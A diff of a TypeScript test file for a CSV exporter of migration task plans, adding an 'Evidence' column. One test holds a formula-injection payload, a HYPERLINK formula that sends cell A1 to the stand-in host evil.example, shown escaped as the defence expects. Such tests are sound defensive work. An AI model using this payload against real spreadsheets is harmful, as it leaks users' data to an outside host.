@@ -132,21 +132,21 @@ describe('planReport', () => {
 describe('planCsv', () => {
   it('has the header columns and one CRLF-terminated row per task', () => {
     const rows = csvRows(planCsv(workedPlan()));
-    expect(rows[0]).toBe('Number,Track,Task,Status,Owner,Due,Last changed by,Last changed at (UTC)');
+    expect(rows[0]).toBe('Number,Track,Task,Status,Owner,Due,Last changed by,Last changed at (UTC),Evidence');
     expect(rows[0].split(',')).toEqual([...CSV_COLUMNS]);
     expect(rows.slice(1)).toEqual([
-      '1,Cloud Sync,Choose the sync tool,Done,,,Alice Admin,2026-11-26T09:00:00.000Z',
-      '2,Cloud Sync,Review Cloud Sync prerequisites,Done,Bob Builder,,Bob Builder,2026-11-27T10:42:00.000Z',
-      '3,Cloud Sync,Install the provisioning agent,Skipped,,,Carol Ops,2026-11-27T10:42:00.000Z',
-      '4,Cloud Sync,Configure Cloud Sync,To do,Carol Ops,2026-12-15,Carol Ops,2026-11-28T11:15:00.000Z',
-      '5,Cloud Sync,Verify users are syncing,To do,,,,',
+      '1,Cloud Sync,Choose the sync tool,Done,,,Alice Admin,2026-11-26T09:00:00.000Z,',
+      '2,Cloud Sync,Review Cloud Sync prerequisites,Done,Bob Builder,,Bob Builder,2026-11-27T10:42:00.000Z,',
+      '3,Cloud Sync,Install the provisioning agent,Skipped,,,Carol Ops,2026-11-27T10:42:00.000Z,',
+      '4,Cloud Sync,Configure Cloud Sync,To do,Carol Ops,2026-12-15,Carol Ops,2026-11-28T11:15:00.000Z,',
+      '5,Cloud Sync,Verify users are syncing,To do,,,,,',
     ]);
     expect(planCsv(workedPlan())).not.toMatch(/[^\r]\n/);
   });
 
   it('writes last-changed times as UTC ISO even when stored with an offset', () => {
     const plan = act(newPlan(), 'cloudSync.prerequisites', 'start', bob, '2026-11-27T01:30:00+02:00');
-    expect(csvRows(planCsv(plan))[2]).toMatch(/,2026-11-26T23:30:00\.000Z$/);
+    expect(csvRows(planCsv(plan))[2]).toMatch(/,2026-11-26T23:30:00\.000Z,$/);
   });
 
   type CellRow = [label: string, value: string, expected: string];
@@ -181,11 +181,11 @@ describe('planCsv', () => {
     plan = editPlan(plan, { kind: 'assign', taskId: 'cloudSync.configure', owner: { id: 'y', name: '-Dash\nNewline' } }, bob, T1);
     const rows = csvRows(planCsv(plan));
     expect(rows[2]).toBe(
-      `2,Cloud Sync,Review Cloud Sync prerequisites,To do,"'=HYPERLINK(""http://evil.example?x=""&A1,""Report"")",,"'=HYPERLINK(""http://evil.example?x=""&A1,""Report"")",${T1}`,
+      `2,Cloud Sync,Review Cloud Sync prerequisites,To do,"'=HYPERLINK(""http://evil.example?x=""&A1,""Report"")",,"'=HYPERLINK(""http://evil.example?x=""&A1,""Report"")",${T1},`,
     );
-    expect(rows[3]).toBe(`3,Cloud Sync,Install the provisioning agent,To do,"'+1 Ops, ""night"" shift",,'@admin,${T1}`);
+    expect(rows[3]).toBe(`3,Cloud Sync,Install the provisioning agent,To do,"'+1 Ops, ""night"" shift",,'@admin,${T1},`);
     // The newline inside the quoted cell is a bare LF, so splitting on CRLF keeps the record whole.
-    expect(rows[4]).toBe(`4,Cloud Sync,Configure Cloud Sync,To do,"'-Dash\nNewline",,Bob Builder,${T1}`);
+    expect(rows[4]).toBe(`4,Cloud Sync,Configure Cloud Sync,To do,"'-Dash\nNewline",,Bob Builder,${T1},`);
     expect(rows).toHaveLength(6);
   });
 
